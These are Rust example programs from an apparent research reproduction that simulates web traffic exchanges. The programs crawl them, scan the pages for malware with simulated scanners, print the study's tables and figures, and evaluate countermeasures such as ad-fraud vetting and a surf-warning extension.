        bad.services[1].rate_per_minute = 10;
        bad.services[1].burst = 0;
        assert!(bad.validate().is_err());

        let mut bad = FaultProfile::default_profile();
        bad.services[0].outage_secs = 0;
        assert!(bad.validate().is_err());
    }
}
