//! Campaign forensics: reproduce the paper's §IV burst-validation
//! experiment and show how a paid campaign distorts a manual-surf
//! exchange's rotation — the mechanism behind Figure 3(b)'s bursts.
//!
//! ```sh
//! cargo run --release --example campaign_forensics
//! ```

use slum_crawler::burst::run_burst_experiment;
use slum_crawler::drive::{crawl_exchange, CrawlConfig};
use slum_crawler::RecordStore;
use slum_exchange::params::profile;
use slum_exchange::build_exchange;
use slum_websim::build::WebBuilder;
use slum_websim::rng::seeded;

use malware_slums::temporal::CumulativeSeries;

fn main() {
    println!("== Part 1: the $5 purchase (paper §IV) ==\n");
    let mut builder = WebBuilder::new(7);
    let dummy = builder.benign_site(Default::default());
    let p = profile("Cash N Hits").expect("profile");
    let mut exchange = build_exchange(&mut builder, p, 0.08, 600_000);
    let mut rng = seeded(2016);

    let experiment = run_burst_experiment(&mut exchange, &dummy.url, 5, 100_000, &mut rng)
        .expect("fresh account");
    let r = &experiment.report;
    println!("dummy site:        {}", dummy.url);
    println!("purchased:         {} visits for ${}", r.purchased, experiment.campaign.dollars);
    println!("delivered:         {} visits (paper: 4,621)", r.delivered);
    println!("unique IPs:        {} (paper: 2,685)", r.unique_ips);
    println!("delivery span:     {}s (paper: under an hour)", r.span_secs);

    // Per-country distribution of the delivered traffic.
    let mut by_country = std::collections::BTreeMap::new();
    for visit in &experiment.visits {
        *by_country.entry(visit.country.as_str()).or_insert(0u64) += 1;
    }
    let mut countries: Vec<_> = by_country.into_iter().collect();
    countries.sort_by_key(|c| std::cmp::Reverse(c.1));
    println!("top visitor countries:");
    for (country, count) in countries.iter().take(5) {
        println!("  {country:<10} {count}");
    }

    println!("\n== Part 2: the burst is visible in the crawl (Figure 3(b)) ==\n");
    // Crawl through the campaign window and watch the dummy site flood
    // the rotation.
    let web = builder.finish();
    let mut store = RecordStore::new();
    crawl_exchange(
        &web,
        &mut exchange,
        &CrawlConfig { steps: 600, seed: 11, start_time: 95_000, ..Default::default() },
        &mut store,
    );
    let flags: Vec<bool> =
        store.records().iter().map(|r| r.url.host() == dummy.url.host()).collect();
    let series = CumulativeSeries::from_flags("Cash N Hits (dummy-site visits)", &flags);
    let total: u64 = series.total_malicious();
    println!(
        "dummy-site visits during crawl: {total} of {} ({:.1}%)",
        series.len(),
        total as f64 / series.len() as f64 * 100.0
    );
    println!("burstiness score: {:.2} (smooth rotation ≈ 1.0)", series.burstiness(40));
    for (start, end) in series.bursts(40, 3.0) {
        println!("burst window: crawl indices {start}..{end}");
    }
    println!("\ncumulative curve (downsampled):");
    for (i, cum) in series.downsample(12) {
        println!("  after {i:>4} pages: {cum:>4} dummy-site visits");
    }
}
