//! Exchange audit: crawl a single exchange and drill into what a member
//! is actually exposed to — the workload the paper's introduction
//! motivates ("users of these exchanges most likely do not understand
//! the risks").
//!
//! ```sh
//! cargo run --release --example exchange_audit [exchange-name]
//! ```

use malware_slums::case_studies;
use malware_slums::categorize::{categorize, Category};
use malware_slums::scanpipe::ScanPipeline;
use slum_crawler::drive::{crawl_exchange, estimated_duration_secs, CrawlConfig};
use slum_crawler::RecordStore;
use slum_exchange::params::{profile, PROFILES};
use slum_exchange::build_exchange;
use slum_websim::build::WebBuilder;

fn main() {
    let name = std::env::args().nth(1).unwrap_or_else(|| "SendSurf".to_string());
    let Some(p) = profile(&name) else {
        eprintln!("unknown exchange {name:?}; pick one of:");
        for p in &PROFILES {
            eprintln!("  {}", p.name);
        }
        std::process::exit(1);
    };

    println!("Auditing {} ({})\n", p.name, p.kind.label());
    let steps = 400;
    let mut builder = WebBuilder::new(99);
    let mut exchange =
        build_exchange(&mut builder, p, 0.08, estimated_duration_secs(p, steps));
    let web = builder.finish();

    let mut store = RecordStore::new();
    let stats = crawl_exchange(
        &web,
        &mut exchange,
        &CrawlConfig { steps, seed: 99, ..Default::default() },
        &mut store,
    );
    println!(
        "crawled {} pages ({} CAPTCHA failures, {} load failures, {} milli-credits earned)",
        stats.pages, stats.captcha_failures, stats.load_failures, stats.credits_earned_millis
    );
    println!(
        "distinct URLs: {}   distinct domains: {}\n",
        store.distinct_urls(),
        store.distinct_domains()
    );

    let pipeline = ScanPipeline::new(&web);
    let outcomes = pipeline.scan_all(store.records());
    let malicious = outcomes.iter().filter(|o| o.malicious).count();
    println!(
        "scan verdicts: {malicious} of {} visits malicious ({:.1}%)\n",
        outcomes.len(),
        malicious as f64 / outcomes.len() as f64 * 100.0
    );

    // Category breakdown for this exchange alone.
    let mut by_category = std::collections::BTreeMap::new();
    for (record, outcome) in store.records().iter().zip(&outcomes) {
        if let Some(category) = categorize(record, outcome) {
            *by_category.entry(category.label()).or_insert(0u64) += 1;
        }
    }
    println!("category breakdown:");
    for category in Category::ALL {
        let count = by_category.get(category.label()).copied().unwrap_or(0);
        println!("  {:<26} {count}", category.label());
    }

    // What would a member actually hit?
    let pairs: Vec<_> = store.records().iter().zip(&outcomes).collect();
    let downloads = case_studies::deceptive_downloads(&pairs);
    let iframes = case_studies::iframe_injections(&pairs);
    println!("\nexposure highlights:");
    println!("  hidden-iframe exhibits:     {}", iframes.len());
    println!("  deceptive-download pushes:  {}", downloads.len());
    for d in downloads.iter().take(3) {
        println!("    {} -> {:?}", d.url, d.filenames);
    }
    let threat_labels: std::collections::BTreeSet<&str> = outcomes
        .iter()
        .flat_map(|o| o.labels().into_iter())
        .collect();
    println!("  distinct threat labels seen: {}", threat_labels.len());
    for label in threat_labels.iter().take(8) {
        println!("    {label}");
    }
}
