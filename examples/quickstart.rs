//! Quickstart: run a scaled-down version of the whole study and print
//! every table and figure the paper reports.
//!
//! ```sh
//! cargo run --release --example quickstart
//! ```

use malware_slums::report::{self, Render};
use malware_slums::study::{Study, StudyConfig};

fn main() {
    let config = StudyConfig::builder()
        .seed(2016)
        .crawl_scale(0.002)
        .domain_scale(0.05)
        .build()
        .expect("valid quickstart config");
    println!(
        "Running the Malware Slums study at {}x crawl scale (seed {})...\n",
        config.crawl_scale, config.seed
    );
    let study = Study::run(&config);

    println!("== Corpus ==");
    println!(
        "visits: {}   distinct URLs: {}   distinct domains: {}\n",
        study.store.len(),
        study.store.distinct_urls(),
        study.store.distinct_domains()
    );

    println!("== Table I: statistics of data from traffic exchanges ==");
    println!("{}", study.table1().render());

    println!("== Table II: statistics of domains on traffic exchanges ==");
    println!("{}", report::render_table2(&study.table2()));

    println!("== Table III: malware categorization ==");
    println!("{}", report::render_table3(&study.table3()));

    println!("== Table IV: malicious shortened URLs (top 10) ==");
    let rows = study.table4();
    println!("{}", report::render_table4(&rows[..rows.len().min(10)]));

    println!("== Figure 2: malware ratio per exchange ==");
    println!("{}", report::render_fig2(&study.fig2()));

    println!("== Figure 3: cumulative malicious URLs (downsampled) ==");
    println!("{}", report::render_fig3(&study.fig3()));

    if let Some(chain) = study.fig4() {
        println!(
            "== Figure 4: example redirection chain ({} hops, on {}) ==",
            chain.hops, chain.exchange
        );
        for (i, host) in chain.hosts.iter().enumerate() {
            let arrow = if i == 0 { "   " } else { "-> " };
            println!("  {arrow}{host}");
        }
        println!();
    }

    println!("== Figure 5: distribution of URL redirection count ==");
    println!("{}", report::render_fig5(&study.fig5()));

    println!("== Figure 6: malicious URLs across top-level domains ==");
    println!("{}", report::render_fig6(&study.fig6()));

    println!("== Figure 7: malicious content across categories ==");
    println!("{}", report::render_fig7(&study.fig7()));

    println!("== Headline ==");
    println!(
        "{:.1}% of regular URLs on the simulated exchanges are malicious (paper: >26%).",
        study.table1().overall_malicious_fraction() * 100.0
    );
}
