//! Countermeasures: run the paper's §VI recommendations against the
//! simulation — an ad network vetting exchange-driven impressions, and
//! the warn-before-you-surf browser extension.
//!
//! ```sh
//! cargo run --release --example countermeasures
//! ```

use malware_slums::countermeasures::{
    detection_ablation, AdNetworkGuard, SurfWarning, WarningDecision,
};
use malware_slums::study::{Study, StudyConfig};
use slum_exchange::params::PROFILES;
use slum_websim::Url;

fn main() {
    println!("Running a reduced study to drive the countermeasures...\n");
    let study = Study::run(&StudyConfig { seed: 2016, crawl_scale: 0.001, domain_scale: 0.05, ..Default::default() });

    println!("== 1. Ad-network fraud vetting (AdSense/DoubleClick-style) ==\n");
    let guard = AdNetworkGuard::new(PROFILES.iter());
    // Every crawl record is an exchange-driven page view; the surfbar's
    // exchange is the referrer the ad network sees.
    let referrers: Vec<String> = study
        .store
        .records()
        .iter()
        .map(|r| {
            PROFILES
                .iter()
                .find(|p| p.name == r.exchange)
                .map(|p| p.host.to_string())
                .unwrap_or_default()
        })
        .collect();
    let report = guard.audit(study.store.records(), &referrers);
    println!("impressions audited:  {}", report.billable + report.fraudulent);
    println!("flagged as fraud:     {} ({:.1}%)", report.fraudulent, report.fraud_rate() * 100.0);
    println!("top offending exchanges:");
    let mut offenders: Vec<_> = report.by_exchange.iter().collect();
    offenders.sort_by(|a, b| b.1.cmp(a.1));
    for (host, count) in offenders.iter().take(5) {
        println!("  {host:<34} {count}");
    }

    println!("\n== 2. The warn-before-you-surf extension ==\n");
    let warning = SurfWarning::from_study(&study);
    for target in [
        "sendsurf.exchange.example",
        "10khits.exchange.example",
        "ordinary-shop.example.com",
    ] {
        match warning.before_navigate(&Url::http(target, "/")) {
            WarningDecision::Allow => println!("{target}\n  -> allowed silently\n"),
            WarningDecision::Warn { message, .. } => println!("{target}\n  -> {message}\n"),
        }
    }

    println!("== 3. Which detection path catches what (ablation) ==\n");
    let ablation = detection_ablation(&study.outcomes);
    println!("total malicious:            {}", ablation.total);
    println!("caught by URL scans:        {}", ablation.url_scan_only);
    println!("needed content upload:      {} (cloaked sites)", ablation.added_by_upload);
    println!("blacklist consensus only:   {}", ablation.added_by_blacklists);
}
