//! Scanner vetting: reproduce the §III-B gold-standard experiment that
//! selected VirusTotal and Quttera out of eight candidate tools, then
//! demonstrate the cloaking problem that motivates content uploads.
//!
//! ```sh
//! cargo run --release --example scanner_vetting
//! ```

use slum_browser::Browser;
use slum_detect::quttera::Quttera;
use slum_detect::vetting::{build_gold_standard, run_vetting, select_tools};
use slum_detect::virustotal::VirusTotal;
use slum_websim::build::{MaliciousOptions, WebBuilder};
use slum_websim::MaliceKind;

fn main() {
    println!("== Part 1: vetting eight candidate tools on a gold standard ==\n");
    let gold = build_gold_standard(2016, 50);
    println!("gold standard: {} ad-injection malware samples\n", gold.samples.len());

    let rows = run_vetting(&gold);
    println!("{:<16} {:>9} {:>9} {:>10}  Paper", "Tool", "Detected", "Total", "Accuracy");
    for row in &rows {
        println!(
            "{:<16} {:>9} {:>9} {:>9.0}% {:>5.0}%  {}",
            row.tool.name(),
            row.detected,
            row.total,
            row.accuracy() * 100.0,
            row.tool.paper_accuracy() * 100.0,
            if row.tool.selected() { "<- selected" } else { "" }
        );
    }
    let selected = select_tools(&rows);
    println!(
        "\nselection rule (keep 100% scorers) keeps: {}\n",
        selected.iter().map(|t| t.name()).collect::<Vec<_>>().join(", ")
    );

    println!("== Part 2: why content uploads matter (cloaking, §III fn. 1) ==\n");
    let mut builder = WebBuilder::new(31);
    let mut cloaked_urls = Vec::new();
    for _ in 0..20 {
        let spec = builder.malicious_site(MaliciousOptions {
            kind: Some(MaliceKind::Misc),
            cloaked: Some(true),
            ..Default::default()
        });
        cloaked_urls.push(spec.url);
    }
    let web = builder.finish();
    let vt = VirusTotal::new(&web);
    let quttera = Quttera::new(&web);
    let browser = Browser::new(&web);

    let mut url_scan_hits = 0;
    let mut upload_scan_hits = 0;
    for url in &cloaked_urls {
        if vt.scan_url(url).is_malicious() || quttera.scan_url(url).is_malicious() {
            url_scan_hits += 1;
        }
        let load = browser.load(url);
        if let Some(content) = &load.html {
            if vt.scan_content(url, content).is_malicious()
                || quttera.scan_content(url, content).is_malicious()
            {
                upload_scan_hits += 1;
            }
        }
    }
    println!("cloaked malicious sites:        {}", cloaked_urls.len());
    println!("detected by URL scanning:       {url_scan_hits}");
    println!("detected after content upload:  {upload_scan_hits}");
    println!(
        "\n=> uploading crawler-captured pages recovers {} sites the URL scans missed.",
        upload_scan_hits - url_scan_hits
    );
}
